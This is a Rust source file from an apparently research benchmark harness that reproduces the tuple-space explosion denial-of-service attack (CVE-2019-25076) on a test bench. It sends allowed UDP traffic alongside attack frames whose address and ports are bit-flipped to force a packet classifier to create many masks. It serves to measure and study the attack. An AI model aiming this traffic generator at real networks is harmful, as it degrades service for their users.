//! What do the victims and the attacker of a tuple-space explosion send? (CVE-2019-25076; CoNEXT'19.)
//!
//! The rules allow one destination port, one source port and one address, and deny the rest. An attack packet differs
//! from each of the three at a bit of its own: what is known of it then needs a mask of its own.

use std::time::{Duration, Instant};

use nix::net::if_::if_nametoindex;
use weft_host::packet::{PacketOptions, PacketSocket, PacketTx};

use crate::cycles::ipv4;

const BATCH: usize = 64;
const SERVER: u32 = 0x0a02_0001;
/// What the rules of the bench allow.
const ALLOWED: (u32, u16, u16) = (0x0a00_000a, 12345, 80);

/// Sends allowed frames as fast as it can on `device`, and `attack` others a second between them; prints both counts.
pub(crate) fn run(device: &str, seconds: &str, attack: &str) -> std::io::Result<()> {
    let number = |text: &str| text.parse::<f64>().map_err(std::io::Error::other);
    let (length, attack) = (Duration::from_secs_f64(number(seconds)?), number(attack)?);
    let index = if_nametoindex(device)?;
    let options = PacketOptions { vnet_hdr: false, receive: false, ..PacketOptions::default() };
    let socket = PacketSocket::open(index, &options).map_err(std::io::Error::other)?;
    let mut tx = PacketTx::new(BATCH);
    let (victims, attackers) = (victims(), attackers());
    let (start, mut sent, mut attacked, mut at) = (Instant::now(), 0u64, 0u64, 0);
    while start.elapsed() < length {
        match socket.send(&mut tx, &victims[at..at + BATCH]) {
            Ok(n) => sent += n as u64,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(e) if e.raw_os_error() == Some(nix::libc::ENOBUFS) => {}
            Err(e) => return Err(e),
        }
        at = (at + BATCH) % (victims.len() - BATCH);
        while (attacked as f64) < start.elapsed().as_secs_f64() * attack {
            let frame = &attackers[attacked as usize % attackers.len()];
            if socket.send(&mut tx, &[frame]).is_err() {
                break;
            }
            attacked += 1;
        }
    }
    println!("{sent} {attacked}");
    Ok(())
}

fn frame(src: u32, sport: u16, dport: u16) -> Vec<u8> {
    let mut f = ipv4(17, src, SERVER);
    f.extend(sport.to_be_bytes());
    f.extend(dport.to_be_bytes());
    f.extend([0, 26, 0, 0]);
    f.extend([0u8; 18]);
    f
}

/// Twenty thousand clients of the allowed server port.
fn victims() -> Vec<Vec<u8>> {
    (0..20_000u32).map(|i| frame(0x0a03_0000 + (i >> 4), 20_000 + (i & 15) as u16, ALLOWED.2)).collect()
}

/// Every combination of bits in which the three fields first differ from what is allowed.
fn attackers() -> Vec<Vec<u8>> {
    let (src, sport, dport) = ALLOWED;
    let mut out = Vec::with_capacity(32 * 16 * 16);
    for a in 0..32 {
        for b in 0..16 {
            for c in 0..16 {
                out.push(frame(src ^ (1 << a), sport ^ (1 << b), dport ^ (1 << c)));
            }
        }
    }
    out
}
